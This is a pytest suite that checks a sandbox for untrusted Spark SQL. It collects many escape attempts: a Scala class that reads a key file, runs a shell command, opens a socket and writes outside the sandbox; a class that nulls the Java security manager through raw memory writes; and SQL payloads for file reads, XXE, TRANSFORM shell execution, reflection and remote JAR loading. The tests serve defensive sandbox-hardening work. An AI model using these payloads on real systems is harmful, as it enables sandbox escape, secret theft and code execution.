"""The sandbox in which `review` runs a stranger's SQL, without the list of refused statements: each boundary by itself."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from collections.abc import Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from socket import create_server, socket

import pytest

from glacierbase.executors.spark.installed import spark_home
from glacierbase.executors.spark.java import find_java_home
from tests.engines.test_migrate_delta import with_delta
from tests.support.memory_files import EXPECTED
from tests.support.project_folder import REPOSITORY, ProjectFolder

pytestmark = pytest.mark.spark

CANARY = "canary-4711"
# Bytes that a statement writes into a file in the memory of the JVM.
PLANTED = "planted-4711"
# Opens the copy of a project, and prints the answers to the statements of each attempt. One of the two boundaries is taken away,
# and the file system in memory, by which statements reach neither; with `all` nothing is.
SCRIPT = """
import json, shutil, sys
from contextlib import closing, suppress
from pathlib import Path
from glacierbase.errors import EngineError
from glacierbase.executors import open_copy
from glacierbase.executors.spark import memory_files
from glacierbase.executors.spark.sandbox import JvmSandbox
from glacierbase.capabilities.review.copy import copy_of
from glacierbase.run.run import Run
from tests.support import memory_files as calls
from tests.support.project_folder import only_catalog

boundary, root, folder, jar, attempts = sys.argv[1:]
if boundary != "all":
    memory_files.settings = dict
if boundary == "java":
    JvmSandbox.command = lambda *_: []
elif boundary == "kernel":
    JvmSandbox._policy = lambda *_: "grant { permission java.security.AllPermission; };"
folder = Path(folder)
copy = copy_of(only_catalog(Path(root)))
with closing(open_copy(copy.catalog, Run.here(folder), folder, copy.names)) as engine:
    for place in (folder, folder / "tmp", folder / "warehouse"):
        shutil.copy(jar, place / "evil.jar")
    if boundary == "all":
        empty = engine.checkpoint()
        with closing(engine.open_session()) as session:
            session.execute("SET fs.s3.impl = org.apache.hadoop.fs.http.HttpFileSystem")
            with suppress(EngineError):
                session.query("SELECT * FROM text.`s3://contract/x`")
        engine.rewind(empty)
        print(json.dumps(calls.answers(engine._jvm, engine._spark._jsc.hadoopConfiguration())))
    for attempt in json.loads(attempts):
        answers = []
        with closing(engine.open_session()) as session:
            for sql in attempt:
                try:
                    answers.append(str(session.query(sql) if sql.startswith("SELECT") else session.execute(sql)))
                except EngineError as error:
                    answers.append(" ".join(error.message.split()))
        print(json.dumps(answers), flush=True)
"""
# Tries everything when it is loaded: the file, `sh`, the server, an environment variable, a file outside. The second one first
# removes the security manager through Spark's own access to raw memory, for which a class needs no right.
EVIL = """
import org.apache.spark.sql.SQLContext
import org.apache.spark.sql.sources.{BaseRelation, RelationProvider}
import org.apache.spark.unsafe.Platform
import scala.util.Try

object Reach {
  def all(): String = Seq(
    Try(new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get("KEY")))),
    Try(Runtime.getRuntime.exec(Array("sh", "-c", "cat 'KEY' && touch 'WRITTEN'")).waitFor == 0),
    Try(new java.net.Socket("127.0.0.1", PORT)),
    Try(System.getenv("CANARY")),
    Try(java.nio.file.Files.write(java.nio.file.Paths.get("WRITTEN"), Array[Byte](1))),
    Try(System.setSecurityManager(null)),
  ).mkString("; ")
}
class Evil extends RelationProvider {
  def createRelation(context: SQLContext, options: Map[String, String]): BaseRelation = sys.error("loaded: " + Reach.all())
}
class Breaks extends RelationProvider {
  def createRelation(context: SQLContext, options: Map[String, String]): BaseRelation = {
    val (system, manager) = (classOf[System], System.getSecurityManager)
    for (offset <- 8L until 400L by 4L if Platform.getInt(system, offset) != 0 && System.getSecurityManager != null)
      if (Platform.getObjectVolatile(system, offset) eq manager) Platform.putObjectVolatile(system, offset, null)
    sys.error("loaded: " + Reach.all())
  }
}
"""
# Statements that get as far as Java's boundary. The others end before it, without an effect.
MEETS_JAVA = (
    *(
        "SELECT * FROM text.`/",
        "SELECT * FROM csv",
        "SELECT * FROM json",
        "SELECT * FROM binaryFile",
        "SELECT raise_error",
    ),
    *(
        "SELECT from_xml",
        "DROP TABLE",
        "INSERT",
        "CREATE TABLE",
        "ADD ARCHIVE",
        "SHOW NAMESPACES IN x",
        "SELECT TRANSFORM",
    ),
    *("SELECT * FROM text.`ftp", "SELECT * FROM text.`hdfs", "SELECT * FROM text.`webhdfs", "SELECT * FROM v"),
    "CREATE TEMPORARY VIEW v USING jdbc OPTIONS (url 'jdbc:hive2",
)


@dataclass
class Targets:
    """What an escape would reach, and where it would show.

    Attributes:
        key: a file in the user's home that only the user can read.
        written: a path outside of the sandbox.
        port: of a server of this machine.
        connections: how many that server had.
    """

    key: Path
    written: Path
    port: int
    connections: int = 0

    def accept(self, server: socket) -> None:
        with suppress(OSError):  # The end of the server.
            while True:
                server.accept()[0].close()
                self.connections += 1


@pytest.fixture
def targets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Targets]:
    """The targets, and an environment with a secret."""
    key = Path(tmp_path, "home", "key")
    key.parent.mkdir()
    key.write_text(CANARY)
    key.chmod(0o600)
    monkeypatch.setenv("CANARY", CANARY)
    with create_server(("127.0.0.1", 0)) as server:
        targets = Targets(key, tmp_path / "written", server.getsockname()[1])
        threading.Thread(target=targets.accept, args=(server,), daemon=True).start()
        yield targets


@pytest.fixture
def jar(targets: Targets, tmp_path: Path) -> Path:
    """A jar with the classes."""
    return compiled(targets, tmp_path, spark_home())


def compiled(targets: Targets, folder: Path, spark: Path) -> Path:
    """Return a new jar with the classes, compiled by the compiler that Spark brings.

    Args:
        spark: the home of Spark.
    """
    source = folder / "Evil.scala"
    text = EVIL.replace("KEY", str(targets.key)).replace("WRITTEN", str(targets.written))
    source.write_text(text.replace("PORT", str(targets.port)))
    jar = folder / "evil.jar"
    java, jars = find_java_home() / "bin" / "java", spark / "jars" / "*"
    compiler = [java, "-cp", jars, "scala.tools.nsc.Main", "-nowarn", "-usejavacp", "-d", jar, source]
    subprocess.run(compiler, check=True, capture_output=True, timeout=300)
    return jar


def escapes(targets: Targets, sandbox: Path, jar: Path) -> Iterator[tuple[str, ...]]:
    """Yield the attempts, of one or more statements each: every form with every target that it can name."""
    address, raw = f"http://127.0.0.1:{targets.port}", "org.apache.hadoop.fs.RawLocalFileSystem"
    own = (sandbox / "policy", sandbox / ".glacierbase", sandbox / "tmp", spark_home() / "bin")
    for path in (targets.key, *own, "/etc/passwd", "/proc/1/environ", "/proc/self/environ"):
        for form in ("text", "csv", "json", "binaryFile"):
            yield (f"SELECT * FROM {form}.`{path}`",)
        yield (f"SELECT raise_error((SELECT first(value) FROM text.`{path}`))",)
        yield (f"SELECT from_xml('<a/>', 'a INT', map('rowValidationXSDPath', '{path}'))",)
        yield (f"""SELECT xpath_string('<!DOCTYPE a [<!ENTITY x SYSTEM "file://{path}">]><a>&x;</a>', 'a')""",)
        options = f"path '{path}', 'fs.file.impl' '{raw}', 'fs.file.impl.disable.cache' 'true'"
        yield f"CREATE TEMPORARY VIEW v USING text OPTIONS ({options})", "SELECT * FROM v"
        table = "spark_catalog.default.c"
        yield (
            f"CREATE TABLE {table} (a STRING) USING csv LOCATION '{path}'",
            f"SELECT * FROM {table}",
            f"DROP TABLE {table}",
        )
        yield (f"LOAD DATA LOCAL INPATH '{path}' INTO TABLE {table}",)
    for path in (targets.written, sandbox / "tmp" / "written", sandbox / "warehouse" / "written", sandbox / "written"):
        for local in ("", "LOCAL "):
            yield (f"INSERT OVERWRITE {local}DIRECTORY '{path}' USING csv SELECT 1",)
        yield (f"CREATE TABLE spark_catalog.default.w USING csv LOCATION '{path}' AS SELECT 1",)
        hadoop = ("SparkCatalog", "SparkCatalog.type = hadoop", f"SparkCatalog.warehouse = {path}")
        yield *_catalog(*hadoop), "CREATE TABLE x.a.b (i INT) USING iceberg"
    yield *_catalog("SparkCatalog", "SparkCatalog.type = rest", f"SparkCatalog.uri = {address}"), "SHOW NAMESPACES IN x"
    for scheme in ("http", "ftp", "hdfs", "webhdfs"):
        yield (f"SELECT * FROM text.`{scheme}://127.0.0.1:{targets.port}/x`",)
    yield (f"SELECT from_xml('<a/>', 'a INT', map('rowValidationXSDPath', '{address}/x'))",)
    hive = f"url 'jdbc:hive2://127.0.0.1:{targets.port}/x', dbtable 't', driver 'org.apache.hive.jdbc.HiveDriver'"
    yield (f"CREATE TEMPORARY VIEW v USING jdbc OPTIONS ({hive})",)
    derby = "url 'jdbc:derby:memory:x;create=true', driver 'org.apache.derby.iapi.jdbc.AutoloadedDriver'"
    yield (f"CREATE TEMPORARY VIEW v USING jdbc OPTIONS ({derby}, dbtable 'sysibm.sysdummy1')",)
    yield (f"SELECT TRANSFORM (1) USING 'cat {targets.key}; touch {targets.written}' AS (x STRING)",)
    for call in ("reflect", "java_method", "try_reflect", "`reflect`", "builtin.reflect", "system.builtin.reflect"):
        yield (f"SELECT {call}('java.lang.System', 'getenv', 'CANARY')",)
    yield ("SELECT '${env:CANARY}'",)
    for name in ("CallMethodViaReflection", "GenericUDFReflect"):
        package = (
            "org.apache.spark.sql.catalyst.expressions" if name[0] == "C" else "org.apache.hadoop.hive.ql.udf.generic"
        )
        yield f"CREATE TEMPORARY FUNCTION f AS '{package}.{name}'", "SELECT f('java.lang.System', 'getenv', 'CANARY')"
    # The last place is the only one that Spark may read.
    for place in (jar, *(each / "evil.jar" for each in (sandbox, sandbox / "warehouse", sandbox / "tmp"))):
        added = f"ADD JAR '{place}'"
        yield f"CREATE TEMPORARY FUNCTION f AS 'Evil' USING JAR '{place}'", "SELECT f(1)"
        yield added, "SET spark.sql.catalog.x = Evil", "SHOW NAMESPACES FROM x"
        yield added, "CREATE TEMPORARY VIEW v USING jdbc OPTIONS (url 'jdbc:x:y', dbtable 't', driver 'Evil')"
        yield added, "CREATE TEMPORARY VIEW v USING Evil"
        yield added, "CREATE TEMPORARY VIEW v USING Breaks"
    # At the end: no query runs after a file that cannot be copied.
    for path in (targets.key, sandbox / "policy", "/etc/passwd"):
        yield f"ADD FILE '{path}'", f"ADD ARCHIVE '{path}'"
    yield f"ADD JAR '{address}/x.jar'", "SELECT count(*) FROM range(9)"


def _catalog(name: str, *settings: str) -> Iterator[str]:
    """Yield the statements that name a catalog `x` of a class of Iceberg, with its settings."""
    yield f"SET spark.sql.catalog.x = org.apache.iceberg.spark.{name}"
    for each in settings:
        yield f"SET spark.sql.catalog.x.{each.removeprefix(name + '.')}"


def answers_to(
    attempts: Sequence[Sequence[str]],
    boundary: str,
    project: ProjectFolder,
    sandbox: Path,
    jar: Path,
    python: str | Path = sys.executable,
) -> list[list[str]]:
    """Return the answers to the statements of each attempt. None holds the secret.

    Args:
        python: has the Spark that the project's catalog needs.
    """
    # In a process of its own: this one may have a Spark session already.
    command = [python, "-c", SCRIPT, boundary, *map(str, (project.root, sandbox, jar)), json.dumps(attempts)]
    done = subprocess.run(command, cwd=REPOSITORY, capture_output=True, text=True, check=False, timeout=500)
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    if boundary == "all":
        assert answers.pop(0) == EXPECTED
    assert len(answers) == len(attempts), done.stderr
    assert CANARY not in done.stdout + done.stderr
    return answers


@pytest.mark.parametrize("boundary", ["java", "kernel"])
def test_each_boundary_by_itself_lets_no_statement_reach_anything(
    boundary: str, lake_project: ProjectFolder, targets: Targets, jar: Path, tmp_path: Path
) -> None:
    """No file, program, connection or variable, in one JVM. Java's boundary also refuses what would only look."""
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    attempts = list(escapes(targets, sandbox, jar))
    if boundary == "java":  # A class that removes the manager must not be loaded: no statement can place its jar there.
        attempts.remove((f"ADD JAR '{sandbox}/tmp/evil.jar'", "CREATE TEMPORARY VIEW v USING Breaks"))
    answers = answers_to(attempts, boundary, lake_project, sandbox, jar)
    assert not targets.written.exists()
    assert targets.connections == 0
    loaded = [each for each in answers if "loaded: " in each[-1]]
    if boundary == "java":
        assert [each[-1].count("AccessControlException: access denied") for each in loaded] == [6]
        for attempt, given in zip(attempts, answers, strict=True):
            assert not attempt[-1].startswith(MEETS_JAVA) or any("access denied (" in each for each in given), (
                attempt,
                given,
            )
    else:
        assert len(loaded) == 6


def escapes_by_files(targets: Targets) -> Iterator[tuple[str, ...]]:
    """Yield attempts with tables of Delta and of files, in Spark's own catalog and by their paths."""
    table = "spark_catalog.default.d"
    for path in (targets.key, targets.key.parent, "/etc", "/proc/self"):
        for format_ in ("delta", "text", "parquet"):
            yield (f"SELECT * FROM {format_}.`{path}`",)
            place = f"CREATE TABLE {table} USING {format_} LOCATION '{path}'"
            yield place, f"SELECT * FROM {table}", f"DROP TABLE {table}"
        yield (f"CONVERT TO DELTA parquet.`{path}`",)
        yield (
            f"CREATE TABLE {table} (a STRING) USING csv OPTIONS (path '{path}')",
            f"SELECT * FROM {table}",
            f"DROP TABLE {table}",
        )
        yield (f"CREATE TABLE delta.`{path}` (a INT) USING delta",)
    for format_ in ("delta", "parquet"):
        for address in (targets.written, f"hdfs://127.0.0.1:{targets.port}/x", f"s3://127.0.0.1:{targets.port}/x"):
            yield f"CREATE TABLE {table} USING {format_} LOCATION '{address}' AS SELECT 1 AS a", f"DROP TABLE {table}"
            yield (f"INSERT OVERWRITE DIRECTORY '{address}' USING parquet SELECT 1",)


def escapes_by_classes(targets: Targets) -> Iterator[tuple[str, ...]]:
    """Yield attempts that name a file system of Hadoop in place of the memory. Each meets Java's boundary."""
    raw, remote = "org.apache.hadoop.fs.RawLocalFileSystem", "org.apache.hadoop.hdfs.DistributedFileSystem"
    for scheme, kind, place in (
        ("file", raw, f"{targets.key.parent}"),
        ("file", raw, f"{targets.written}"),
        ("hdfs", remote, f"hdfs://127.0.0.1:{targets.port}/x"),
    ):
        settings = {f"fs.{scheme}.impl": kind, f"fs.{scheme}.impl.disable.cache": "true"}
        options = ", ".join(f"'{key}' '{value}'" for key, value in settings.items())
        changes = tuple(f"SET {key} = {value}" for key, value in settings.items())
        yield f"CREATE TEMPORARY VIEW v USING delta OPTIONS (path '{place}', {options})", "SELECT * FROM v"
        yield (*changes, f"SELECT * FROM text.`{place}`")
        yield (*changes, f"SELECT * FROM delta.`{place}`")
        yield (*changes, f"INSERT OVERWRITE DIRECTORY '{place}' USING parquet SELECT 1")


def escapes_to_disk() -> Iterator[tuple[str, ...]]:
    """Yield attempts to have files in the memory of the JVM copied to the disk, from where a class loader could read them.

    No query runs after them.
    """
    written = f"INSERT OVERWRITE DIRECTORY 's3://x/planted' USING text SELECT '{PLANTED}'"
    for kind in ("FILE", "ARCHIVE"):
        yield written, f"ADD {kind} 's3://x/planted'"


def test_no_statement_on_delta_or_on_files_leaves_the_copy(
    project: ProjectFolder, targets: Targets, jar: Path, tmp_path: Path
) -> None:
    """Paths and addresses lead to the memory of the JVM, where nothing is; another file system has no right on a file.

    The memory keeps the contract of Hadoop's file systems, also where a statement chose another one before, and no file of it
    reaches the disk.
    """
    project.catalog(with_delta(project.root / "warehouse"))
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    of_files, of_classes = list(escapes_by_files(targets)), list(escapes_by_classes(targets))
    answers = answers_to([*of_files, *of_classes, *escapes_to_disk()], "all", project, sandbox, jar)
    on_disk = [file for file in sandbox.rglob("*") if file.is_file() and PLANTED.encode() in file.read_bytes()]
    assert not on_disk
    assert not targets.written.exists()
    assert targets.connections == 0
    for attempt, given in zip(of_classes, answers[len(of_files) : -2], strict=True):
        assert any("access denied (" in answer for answer in given), (attempt, given)
    assert not any("root:" in answer for given in answers for answer in given)
    assert not list(targets.key.parent.glob("_delta_log"))
